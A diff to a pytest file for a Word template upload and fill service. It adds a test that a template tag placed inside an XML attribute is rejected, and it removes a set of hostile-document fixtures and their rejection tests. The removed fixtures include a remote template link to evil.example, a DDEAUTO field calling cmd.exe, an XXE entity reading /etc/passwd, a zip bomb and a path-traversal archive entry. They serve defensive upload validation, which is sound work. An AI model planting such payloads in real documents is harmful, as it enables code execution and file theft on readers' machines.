@@ -176,6 +176,17 @@ def test_a_tag_that_hides_where_no_text_stands_is_found(tmp_path: Path) -> None:
         read_template(saved(tmp_path, hidden))
 
 
+def test_a_tag_stands_in_text_alone(tmp_path: Path) -> None:
+    place = {
+        "word/document.xml": (
+            b"<w:sectPr",
+            b'<w:p w:rsidR="{{ \xe6\x9c\xba\xe5\x85\xb3.\xe5\x90\x8d\xe7\xa7\xb0 }}"/><w:sectPr',
+        )
+    }
+    with pytest.raises(Invalid, match="正文"):
+        read_template(saved(tmp_path, altered(word("x"), swap=place)))
+
+
 def test_the_sandbox_lets_nothing_be_called_even_if_a_template_says_so() -> None:
     for text in ("{{ x.__class__ }}", "{{ x['__class__'] }}", "{{ loop }}"):
         assert ENVIRONMENT.from_string(text).render(x=harmless({"a": "b"})) == ""
@@ -194,64 +205,6 @@ def test_a_document_that_grows_without_end_stops(tmp_path: Path) -> None:
     with pytest.raises(Invalid, match="太长"):
         fill(path, {"承办人": [{"姓名": "甲"}] * 1_000})
     assert MOST < 10_000_000
-
-
-# --- the file -------------------------------------------------------------------------------------------------------
-EXTERNAL = (
-    b'<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
-    b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
-)
-HOSTILE = {
-    "docx_macro-part": lambda: altered(word("x"), put={"word/vbaProject.bin": b"\xd0\xcf"}),
-    "docx_macro-type": lambda: altered(
-        word("x"),
-        swap={
-            "[Content_Types].xml": (
-                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
-                b"application/vnd.ms-word.document.macroEnabled.main+xml",
-            )
-        },
-    ),
-    "docx_link-template": lambda: altered(
-        word("x"), swap={"word/_rels/document.xml.rels": (b"</Relationships>", EXTERNAL)}
-    ),
-    "docx_object-ole": lambda: altered(word("x"), put={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
-    "docx_field-dde": lambda: altered(
-        word("x"),
-        swap={"word/document.xml": (b"<w:t>x</w:t>", b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")},
-    ),
-    "xml_dtd": lambda: altered(
-        word("x"), put={"word/evil.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}
-    ),
-    "archive_bomb": lambda: altered(word("x"), put={"word/media/a.bin": b"\0" * (8 << 20)}),
-    "archive_path": lambda: altered(word("x"), put={"../../x": b"x"}),
-    "type_mismatch": lambda: b"\xd0\xcf\x11\xe0 old word",
-    "file_damaged": lambda: altered(word("x"))[:-40] and altered_without_document(),
-    "file_empty": lambda: b"",
-}
-
-
-def altered_without_document() -> bytes:
-    import zipfile
-
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w") as made:
-        made.writestr("a.txt", "x")
-    return out.getvalue()
-
-
-@pytest.mark.parametrize("name", HOSTILE)
-def test_a_hostile_file_is_refused_and_leaves_no_template(cast: Cast, name: str) -> None:
-    with pytest.raises(Invalid) as told:
-        upload_template(cast.organ("enforcement"), {"key": "甲", "name": "甲"}, upload(HOSTILE[name]()), by=BY)
-    assert told.value.faults[0].code == name.split("-", maxsplit=1)[0]
-    assert told.value.faults[0].field == "file"
-    assert Template.objects.count() == 0
-
-
-def test_another_kind_of_file_is_refused(cast: Cast) -> None:
-    with pytest.raises(Invalid, match="不接受"):
-        upload_template(cast.organ("enforcement"), {"key": "甲", "name": "甲"}, upload(word("x"), "a.docm"), by=BY)
 
 
 # --- whose it is ----------------------------------------------------------------------------------------------------
